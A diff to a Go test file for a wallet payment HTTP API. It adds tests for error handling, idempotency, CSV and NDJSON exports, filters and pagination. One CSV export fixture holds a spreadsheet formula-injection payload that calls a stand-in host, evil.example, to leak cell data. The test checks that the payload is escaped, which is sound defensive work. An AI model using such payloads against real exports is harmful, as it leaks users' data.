@@ -2,12 +2,17 @@ package wallet_test
 
 import (
 	"bytes"
+	"context"
+	"encoding/csv"
 	"encoding/json"
+	"errors"
 	"fmt"
 	"io"
 	"net/http"
 	"net/http/httptest"
+	"strings"
 	"testing"
+	"time"
 
 	"github.com/golang/mock/gomock"
 	"github.com/stretchr/testify/assert"
@@ -51,7 +56,7 @@ func TestHTTPGetWallet(t *testing.T) {
 		reqrd.Nil(err)
 
 		repo.EXPECT().
-			GetAccount(gomock.AssignableToTypeOf(getReq)).
+			GetAccount(gomock.Any(), gomock.AssignableToTypeOf(getReq)).
 			Return(account, nil).
 			Times(1)
 
@@ -114,7 +119,7 @@ func TestHTTPListWallets(t *testing.T) {
 		reqrd.Nil(err)
 
 		repo.EXPECT().
-			ListAccounts(gomock.AssignableToTypeOf(listReq)).
+			ListAccounts(gomock.Any(), gomock.AssignableToTypeOf(listReq)).
 			Return(accounts, nil).
 			Times(1)
 
@@ -185,7 +190,7 @@ func TestHTTPListPayments(t *testing.T) {
 		reqrd.Nil(err)
 
 		repo.EXPECT().
-			ListTransfers(gomock.AssignableToTypeOf(listReq)).
+			ListTransfers(gomock.Any(), gomock.AssignableToTypeOf(listReq)).
 			Return(transfers, nil).
 			Times(1)
 
@@ -258,7 +263,7 @@ func TestHTTPCreatePayment(t *testing.T) {
 		reqrd.Nil(err)
 
 		repo.EXPECT().
-			CreateTransfer(create).
+			CreateTransfer(gomock.Any(), create).
 			Return(trnsfr, nil).
 			Times(1)
 
@@ -276,4 +281,577 @@ func TestHTTPCreatePayment(t *testing.T) {
 		as.Equal(payReq.Amount, resp.Amount)
 		as.Equal(wallet.Outgoing, resp.Direction)
 	})
+
+	t.Run("insufficient funds", func(tt *testing.T) {
+		as := assert.New(tt)
+		reqrd := require.New(tt)
+		ctrl := gomock.NewController(tt)
+		defer ctrl.Finish()
+		repo := MOCKWALLET.NewMockRepository(ctrl)
+
+		walletSvc := &wallet.ValidationMiddleware{
+			Next: &wallet.ServiceImpl{
+				Repo: repo,
+			},
+		}
+		handler := wallet.MakeHTTPHandler(walletSvc)
+		w := httptest.NewRecorder()
+
+		acctID := "bob-888"
+		reqBits, err := json.Marshal(wallet.CreatePaymentRequest{To: "hao-91011", Amount: 1000.0})
+		reqrd.Nil(err)
+		req, err := http.NewRequest("POST", fmt.Sprintf(`/wallets/%v/payments`, acctID), bytes.NewReader(reqBits))
+		reqrd.Nil(err)
+
+		repo.EXPECT().
+			CreateTransfer(gomock.Any(), gomock.Any()).
+			Return(wallet.Transfer{}, wallet.ErrInsufficientFunds).
+			Times(1)
+
+		handler.ServeHTTP(w, req)
+
+		as.Equal(http.StatusUnprocessableEntity, w.Code)
+		as.Equal(errorrrs.ProblemMediaType, w.Header().Get("Content-Type"))
+		var prob errorrrs.Problem
+		reqrd.Nil(json.NewDecoder(w.Body).Decode(&prob))
+		as.Equal(errorrrs.CodeInsufficientFunds, prob.Code)
+		as.Equal(errorrrs.ProblemType(errorrrs.CodeInsufficientFunds), prob.Type)
+		as.Equal(http.StatusUnprocessableEntity, prob.Status)
+		as.Equal(wallet.ErrInsufficientFunds.Error(), prob.Detail)
+	})
+
+	t.Run("with metadata", func(tt *testing.T) {
+		as := assert.New(tt)
+		reqrd := require.New(tt)
+		ctrl := gomock.NewController(tt)
+		defer ctrl.Finish()
+		repo := MOCKWALLET.NewMockRepository(ctrl)
+
+		handler := wallet.MakeHTTPHandler(&wallet.ValidationMiddleware{
+			Next: &wallet.ServiceImpl{
+				Repo: repo,
+			},
+		})
+		w := httptest.NewRecorder()
+
+		body := `{"to_account": "hao-91011", "amount": 10, "description": "order #1234",
+			"reference": " ord-1234 ", "metadata": {"order_id": "1234"}}`
+		req, err := http.NewRequest("POST", `/wallets/bob-888/payments`, strings.NewReader(body))
+		reqrd.Nil(err)
+
+		create := wallet.CreateTransferRequest{
+			From:        "bob-888",
+			To:          "hao-91011",
+			Amount:      10,
+			Description: "order #1234",
+			Reference:   "ord-1234",
+			Metadata:    wallet.Metadata{"order_id": "1234"},
+		}
+		repo.EXPECT().
+			CreateTransfer(gomock.Any(), create).
+			Return(wallet.Transfer{
+				ID:          1,
+				From:        create.From,
+				To:          create.To,
+				Amount:      create.Amount,
+				Description: create.Description,
+				Reference:   create.Reference,
+				Metadata:    create.Metadata,
+			}, nil).
+			Times(1)
+
+		handler.ServeHTTP(w, req)
+
+		as.Equal(http.StatusOK, w.Code)
+		var resp wallet.Payment
+		reqrd.Nil(json.NewDecoder(w.Body).Decode(&resp))
+		as.Equal(create.Description, resp.Description)
+		as.Equal(create.Reference, resp.Reference)
+		as.Equal(create.Metadata, resp.Metadata)
+	})
+
+	t.Run("duplicate reference", func(tt *testing.T) {
+		as := assert.New(tt)
+		reqrd := require.New(tt)
+		ctrl := gomock.NewController(tt)
+		defer ctrl.Finish()
+		repo := MOCKWALLET.NewMockRepository(ctrl)
+
+		handler := wallet.MakeHTTPHandler(&wallet.ValidationMiddleware{
+			Next: &wallet.ServiceImpl{
+				Repo: repo,
+			},
+		})
+		w := httptest.NewRecorder()
+
+		reqBits, err := json.Marshal(wallet.CreatePaymentRequest{To: "hao-91011", Amount: 10, Reference: "ord-1234"})
+		reqrd.Nil(err)
+		req, err := http.NewRequest("POST", `/wallets/bob-888/payments`, bytes.NewReader(reqBits))
+		reqrd.Nil(err)
+
+		repo.EXPECT().
+			CreateTransfer(gomock.Any(), gomock.Any()).
+			Return(wallet.Transfer{}, fmt.Errorf("%w: %v", wallet.ErrDuplicateReference, "ord-1234")).
+			Times(1)
+
+		handler.ServeHTTP(w, req)
+
+		as.Equal(http.StatusConflict, w.Code)
+		var prob errorrrs.Problem
+		reqrd.Nil(json.NewDecoder(w.Body).Decode(&prob))
+		as.Equal(errorrrs.CodeDuplicateReference, prob.Code)
+	})
+
+	t.Run("idempotency key", func(tt *testing.T) {
+		as := assert.New(tt)
+		reqrd := require.New(tt)
+		ctrl := gomock.NewController(tt)
+		defer ctrl.Finish()
+		repo := MOCKWALLET.NewMockRepository(ctrl)
+
+		handler := wallet.MakeHTTPHandler(&wallet.ValidationMiddleware{
+			Next: &wallet.ServiceImpl{
+				Repo: repo,
+			},
+		})
+		w := httptest.NewRecorder()
+
+		reqBits, err := json.Marshal(wallet.CreatePaymentRequest{To: "hao-91011", Amount: 10, IdempotencyKey: "k-1"})
+		reqrd.Nil(err)
+		as.NotContains(string(reqBits), "k-1", "keys are headers")
+		req, err := http.NewRequest("POST", `/wallets/bob-888/payments`, bytes.NewReader(reqBits))
+		reqrd.Nil(err)
+		req.Header.Set(wallet.IdempotencyKeyHeader, "k-1")
+
+		repo.EXPECT().
+			CreateTransfer(gomock.Any(), wallet.CreateTransferRequest{From: "bob-888", To: "hao-91011", Amount: 10, IdempotencyKey: "k-1"}).
+			Return(wallet.Transfer{ID: 7, From: "bob-888", To: "hao-91011", Amount: 10}, nil).
+			Times(1)
+
+		handler.ServeHTTP(w, req)
+
+		as.Equal(http.StatusOK, w.Code, w.Body.String())
+	})
+
+	t.Run("validation failed", func(tt *testing.T) {
+		as := assert.New(tt)
+		reqrd := require.New(tt)
+		ctrl := gomock.NewController(tt)
+		defer ctrl.Finish()
+		repo := MOCKWALLET.NewMockRepository(ctrl)
+
+		walletSvc := &wallet.ValidationMiddleware{
+			Next: &wallet.ServiceImpl{
+				Repo: repo,
+			},
+		}
+		handler := wallet.MakeHTTPHandler(walletSvc)
+		w := httptest.NewRecorder()
+
+		acctID := "bob-888"
+		reqBits, err := json.Marshal(wallet.CreatePaymentRequest{To: acctID, Amount: 10.0})
+		reqrd.Nil(err)
+		req, err := http.NewRequest("POST", fmt.Sprintf(`/wallets/%v/payments`, acctID), bytes.NewReader(reqBits))
+		reqrd.Nil(err)
+
+		handler.ServeHTTP(w, req)
+
+		as.Equal(http.StatusBadRequest, w.Code)
+		var prob errorrrs.Problem
+		reqrd.Nil(json.NewDecoder(w.Body).Decode(&prob))
+		as.Equal(errorrrs.CodeValidationFailed, prob.Code)
+		reqrd.Len(prob.Errors, 1)
+		as.Equal("to_account", prob.Errors[0].Field)
+	})
+
+	t.Run("malformed body", func(tt *testing.T) {
+		bodies := map[string]errorrrs.Code{
+			`{"to_account": "hao-91011", "amount": 10`:                  errorrrs.CodeMalformedRequest,
+			`{"to_account": "hao-91011", "amount": 10, "memo": "rent"}`: errorrrs.CodeMalformedRequest,
+			`{"to_account": "hao-91011", "amount": "10"}`:               errorrrs.CodeValidationFailed,
+		}
+		for body, code := range bodies {
+			as := assert.New(tt)
+			reqrd := require.New(tt)
+			ctrl := gomock.NewController(tt)
+			repo := MOCKWALLET.NewMockRepository(ctrl)
+
+			walletSvc := &wallet.ValidationMiddleware{
+				Next: &wallet.ServiceImpl{
+					Repo: repo,
+				},
+			}
+			handler := wallet.MakeHTTPHandler(walletSvc)
+			w := httptest.NewRecorder()
+
+			req, err := http.NewRequest("POST", `/wallets/bob-888/payments`, strings.NewReader(body))
+			reqrd.Nil(err)
+
+			handler.ServeHTTP(w, req)
+
+			as.Equal(http.StatusBadRequest, w.Code, body)
+			var prob errorrrs.Problem
+			reqrd.Nil(json.NewDecoder(w.Body).Decode(&prob))
+			as.Equal(code, prob.Code, body)
+			ctrl.Finish()
+		}
+	})
+
+	t.Run("internal error is sanitized", func(tt *testing.T) {
+		as := assert.New(tt)
+		reqrd := require.New(tt)
+		ctrl := gomock.NewController(tt)
+		defer ctrl.Finish()
+		repo := MOCKWALLET.NewMockRepository(ctrl)
+
+		walletSvc := &wallet.ValidationMiddleware{
+			Next: &wallet.ServiceImpl{
+				Repo: repo,
+			},
+		}
+		handler := wallet.MakeHTTPHandler(walletSvc)
+		w := httptest.NewRecorder()
+
+		acctID := "bob-888"
+		reqBits, err := json.Marshal(wallet.CreatePaymentRequest{To: "hao-91011", Amount: 10.0})
+		reqrd.Nil(err)
+		req, err := http.NewRequest("POST", fmt.Sprintf(`/wallets/%v/payments`, acctID), bytes.NewReader(reqBits))
+		reqrd.Nil(err)
+		req.Header.Set("X-Request-Id", "req-42")
+
+		repo.EXPECT().
+			CreateTransfer(gomock.Any(), gomock.Any()).
+			Return(wallet.Transfer{}, errors.New(`pq: could not serialize access due to concurrent update`)).
+			Times(1)
+
+		handler.ServeHTTP(w, req)
+
+		as.Equal(http.StatusInternalServerError, w.Code)
+		var prob errorrrs.Problem
+		reqrd.Nil(json.NewDecoder(w.Body).Decode(&prob))
+		as.Equal(errorrrs.CodeInternal, prob.Code)
+		// correlation IDs are the server's own, not that of the client
+		as.NotEmpty(prob.CorrelationID)
+		as.NotEqual("req-42", prob.CorrelationID)
+		as.Equal(prob.CorrelationID, w.Header().Get("X-Request-Id"))
+		as.NotContains(prob.Detail, "pq:")
+	})
+}
+
+func TestHTTPExportTransfers(t *testing.T) {
+	t.Run("csv", func(tt *testing.T) {
+		as := assert.New(tt)
+		reqrd := require.New(tt)
+		ctrl := gomock.NewController(tt)
+		defer ctrl.Finish()
+		repo := MOCKWALLET.NewMockRepository(ctrl)
+
+		walletSvc := &wallet.ValidationMiddleware{
+			Next: &wallet.ServiceImpl{
+				Repo: repo,
+			},
+		}
+
+		serverErrcoder := httptransport.ServerErrorEncoder(errorrrs.GokitErrorEncoder)
+		ledgerHandler := httptransport.NewServer(
+			wallet.MakeListTransfersEndpt(walletSvc),
+			wallet.DecodeHTTPListTransfersReq,
+			wallet.EncodeJSONResponse,
+			serverErrcoder)
+		ledgerExportHandler := httptransport.NewServer(
+			wallet.MakeTransfersExportEndpt(walletSvc),
+			wallet.DecodeHTTPListTransfersReq,
+			wallet.EncodeExportResponse,
+			serverErrcoder,
+			httptransport.ServerBefore(httptransport.PopulateRequestContext))
+		handler := wallet.NegotiateExport(ledgerHandler, ledgerExportHandler)
+		w := httptest.NewRecorder()
+
+		now := time.Date(2021, 10, 20, 7, 28, 19, 0, time.UTC)
+		transfers := []wallet.Transfer{
+			{
+				ID:          1,
+				From:        "alice-123",
+				To:          "bob-456",
+				Currency:    "USD",
+				Amount:      50.5,
+				CreatedAt:   now,
+				Description: "lunch, split",
+				Reference:   "inv-001",
+				Metadata:    wallet.Metadata{"order_id": "1234"},
+			},
+			{
+				ID:        2,
+				From:      "bob-456",
+				To:        "alice-123",
+				Currency:  "USD",
+				Amount:    100,
+				CreatedAt: now.Add(time.Minute),
+			},
+			{
+				ID:          3,
+				From:        "alice-123",
+				To:          "bob-456",
+				Currency:    "USD",
+				Amount:      -1.5,
+				CreatedAt:   now.Add(2 * time.Minute),
+				Description: `=HYPERLINK("https://evil.example/?"&A1,"refund")`,
+				Reference:   "@SUM(A1:A9)",
+				Metadata:    wallet.Metadata{"note": "-1+1"},
+			},
+		}
+		req, err := http.NewRequest("GET", "/transfers?currency=USD", nil)
+		reqrd.Nil(err)
+		req.Header.Set("Accept", "text/csv")
+
+		repo.EXPECT().
+			StreamTransfers(gomock.Any(), gomock.AssignableToTypeOf(wallet.ListTransfersRequest{}), gomock.Any()).
+			DoAndReturn(func(_ context.Context, _ wallet.ListTransfersRequest, fn func(wallet.Transfer) error) error {
+				for i := range transfers {
+					if err := fn(transfers[i]); err != nil {
+						return err
+					}
+				}
+				return nil
+			}).
+			Times(1)
+
+		handler.ServeHTTP(w, req)
+
+		as.Equal(http.StatusOK, w.Code)
+		as.Equal(wallet.MediaTypeCSV, w.Header().Get("Content-Type"))
+		records, err := csv.NewReader(w.Body).ReadAll()
+		reqrd.Nil(err)
+		reqrd.Len(records, len(transfers)+1)
+		as.Equal([]string{"id", "from", "to", "currency", "amount", "created_at",
+			"description", "reference", "metadata"}, records[0])
+		as.Equal([]string{"1", "alice-123", "bob-456", "USD", "50.5", "2021-10-20T07:28:19Z",
+			"lunch, split", "inv-001", `{"order_id":"1234"}`}, records[1])
+		as.Equal([]string{"2", "bob-456", "alice-123", "USD", "100", "2021-10-20T07:29:19Z",
+			"", "", ""}, records[2])
+		// text that spreadsheets would take as formulas is not, unlike numbers
+		as.Equal([]string{"3", "alice-123", "bob-456", "USD", "-1.5", "2021-10-20T07:30:19Z",
+			`'=HYPERLINK("https://evil.example/?"&A1,"refund")`, "'@SUM(A1:A9)", `{"note":"-1+1"}`}, records[3])
+	})
+}
+
+func TestHTTPExportPayments(t *testing.T) {
+	t.Run("ndjson", func(tt *testing.T) {
+		as := assert.New(tt)
+		reqrd := require.New(tt)
+		ctrl := gomock.NewController(tt)
+		defer ctrl.Finish()
+		repo := MOCKWALLET.NewMockRepository(ctrl)
+
+		walletSvc := &wallet.ValidationMiddleware{
+			Next: &wallet.ServiceImpl{
+				Repo: repo,
+			},
+		}
+
+		serverErrcoder := httptransport.ServerErrorEncoder(errorrrs.GokitErrorEncoder)
+		paymentsExportHandler := httptransport.NewServer(
+			wallet.MakePaymentsExportEndpt(walletSvc),
+			wallet.DecodeHTTPListPaymentsReq,
+			wallet.EncodeExportResponse,
+			serverErrcoder,
+			httptransport.ServerBefore(httptransport.PopulateRequestContext))
+		w := httptest.NewRecorder()
+
+		acctID := "bob-888"
+		transfers := []wallet.Transfer{
+			{
+				From:     "sato-91011",
+				To:       acctID,
+				Amount:   50.0,
+				Currency: "USD",
+			},
+			{
+				From:     acctID,
+				To:       "fan-1234",
+				Amount:   300.0,
+				Currency: "USD",
+			},
+		}
+		req, err := http.NewRequest("GET", fmt.Sprintf(`/wallets/%v/payments`, acctID), nil)
+		reqrd.Nil(err)
+		req.Header.Set("Accept", "application/x-ndjson")
+
+		repo.EXPECT().
+			StreamTransfers(gomock.Any(), gomock.AssignableToTypeOf(wallet.ListTransfersRequest{}), gomock.Any()).
+			DoAndReturn(func(_ context.Context, _ wallet.ListTransfersRequest, fn func(wallet.Transfer) error) error {
+				for i := range transfers {
+					if err := fn(transfers[i]); err != nil {
+						return err
+					}
+				}
+				return nil
+			}).
+			Times(1)
+
+		paymentsExportHandler.ServeHTTP(w, req)
+
+		as.Equal(wallet.MediaTypeNDJSON, w.Header().Get("Content-Type"))
+		dec := json.NewDecoder(w.Body)
+		var resp []wallet.Payment
+		for dec.More() {
+			var p wallet.Payment
+			reqrd.Nil(dec.Decode(&p))
+			resp = append(resp, p)
+		}
+
+		reqrd.Len(resp, len(transfers))
+		as.Equal(wallet.Incoming, resp[0].Direction)
+		as.Equal(transfers[0].From, *resp[0].From)
+		as.Equal(wallet.Outgoing, resp[1].Direction)
+		as.Equal(transfers[1].To, *resp[1].To)
+	})
+}
+
+func TestHTTPReadYourWrites(t *testing.T) {
+	cases := []struct {
+		name   string
+		url    string
+		header string
+		ryw    bool
+	}{
+		{name: "default", url: "/wallets/sato-91011"},
+		{name: "header", url: "/wallets/sato-91011", header: "true", ryw: true},
+		{name: "query param", url: "/wallets/sato-91011?read_your_writes=1", ryw: true},
+		{name: "false header", url: "/wallets/sato-91011", header: "false"},
+	}
+	for _, c := range cases {
+		c := c
+		t.Run(c.name, func(tt *testing.T) {
+			as := assert.New(tt)
+			reqrd := require.New(tt)
+			ctrl := gomock.NewController(tt)
+			defer ctrl.Finish()
+			repo := MOCKWALLET.NewMockRepository(ctrl)
+
+			handler := wallet.MakeHTTPHandler(&wallet.ValidationMiddleware{
+				Next: &wallet.ServiceImpl{
+					Repo: repo,
+				},
+			})
+			w := httptest.NewRecorder()
+			req, err := http.NewRequest("GET", c.url, nil)
+			reqrd.Nil(err)
+			if c.header != "" {
+				req.Header.Set(wallet.ReadYourWritesHeader, c.header)
+			}
+
+			repo.EXPECT().
+				GetAccount(gomock.Any(), wallet.GetAccountRequest{ID: "sato-91011"}).
+				DoAndReturn(func(ctx context.Context, req wallet.GetAccountRequest) (wallet.Account, error) {
+					as.Equal(c.ryw, wallet.ReadYourWrites(ctx))
+					return wallet.Account{ID: req.ID, Currency: "CNY"}, nil
+				}).
+				Times(1)
+
+			handler.ServeHTTP(w, req)
+
+			as.Equal(http.StatusOK, w.Code)
+		})
+	}
+}
+
+func TestHTTPListTransfersFilters(t *testing.T) {
+	as := assert.New(t)
+	reqrd := require.New(t)
+	ctrl := gomock.NewController(t)
+	defer ctrl.Finish()
+	repo := MOCKWALLET.NewMockRepository(ctrl)
+
+	handler := wallet.MakeHTTPHandler(&wallet.ValidationMiddleware{
+		Next: &wallet.ServiceImpl{
+			Repo: repo,
+		},
+	})
+
+	ref := "ord-1234"
+	repo.EXPECT().
+		ListTransfers(gomock.Any(), wallet.ListTransfersRequest{
+			Reference: &ref,
+			Metadata:  wallet.Metadata{"order_id": "1234", "channel": "web"},
+		}).
+		Return(nil, nil).
+		Times(1)
+	w := httptest.NewRecorder()
+	req, err := http.NewRequest("GET", "/transfers?reference=ord-1234&metadata.order_id=1234&metadata.channel=web", nil)
+	reqrd.Nil(err)
+	handler.ServeHTTP(w, req)
+	as.Equal(http.StatusOK, w.Code)
+
+	acct := "bob-888"
+	repo.EXPECT().
+		ListTransfers(gomock.Any(), wallet.ListTransfersRequest{
+			From:      &acct,
+			To:        &acct,
+			Reference: &ref,
+		}).
+		Return(nil, nil).
+		Times(1)
+	w = httptest.NewRecorder()
+	req, err = http.NewRequest("GET", "/wallets/bob-888/payments?reference=ord-1234", nil)
+	reqrd.Nil(err)
+	handler.ServeHTTP(w, req)
+	as.Equal(http.StatusOK, w.Code)
+
+	w = httptest.NewRecorder()
+	req, err = http.NewRequest("GET", "/transfers?metadata.order.id=1234", nil)
+	reqrd.Nil(err)
+	handler.ServeHTTP(w, req)
+	as.Equal(http.StatusBadRequest, w.Code)
+}
+
+func TestHTTPListPagination(t *testing.T) {
+	as := assert.New(t)
+	reqrd := require.New(t)
+	ctrl := gomock.NewController(t)
+	defer ctrl.Finish()
+	repo := MOCKWALLET.NewMockRepository(ctrl)
+
+	handler := wallet.MakeHTTPHandler(&wallet.ValidationMiddleware{
+		Next: &wallet.ServiceImpl{
+			Repo: repo,
+		},
+	})
+	do := func(url string) *httptest.ResponseRecorder {
+		w := httptest.NewRecorder()
+		req, err := http.NewRequest("GET", url, nil)
+		reqrd.Nil(err)
+		handler.ServeHTTP(w, req)
+		return w
+	}
+
+	after, afterID := "bob-456", 7
+	repo.EXPECT().
+		ListAccounts(gomock.Any(), wallet.ListAccountsRequest{After: &after, Limit: 2}).
+		Return(nil, nil).
+		Times(1)
+	as.Equal(http.StatusOK, do("/wallets?after=bob-456&limit=2").Code)
+
+	acct := "bob-888"
+	repo.EXPECT().
+		ListTransfers(gomock.Any(), wallet.ListTransfersRequest{From: &acct, To: &acct, AfterID: &afterID, Limit: 50}).
+		Return([]wallet.Transfer{{ID: 8, From: acct, To: "fan-1234"}}, nil).
+		Times(1)
+	w := do("/wallets/bob-888/payments?after_id=7&limit=50")
+	as.Equal(http.StatusOK, w.Code)
+	var payments []wallet.Payment
+	reqrd.Nil(json.Unmarshal(w.Body.Bytes(), &payments))
+	as.Equal(8, payments[0].ID)
+
+	repo.EXPECT().
+		ListTransfers(gomock.Any(), wallet.ListTransfersRequest{AfterID: &afterID, Limit: wallet.MaxPageSize}).
+		Return(nil, nil).
+		Times(1)
+	as.Equal(http.StatusOK, do(fmt.Sprintf("/transfers?after_id=7&limit=%d", wallet.MaxPageSize)).Code)
+
+	for _, url := range []string{"/wallets?limit=x", "/transfers?limit=-1", "/wallets/bob-888/payments?limit=1001"} {
+		w := do(url)
+		as.Equal(http.StatusBadRequest, w.Code, url)
+		as.Contains(w.Body.String(), `"field":"limit"`, url)
+	}
 }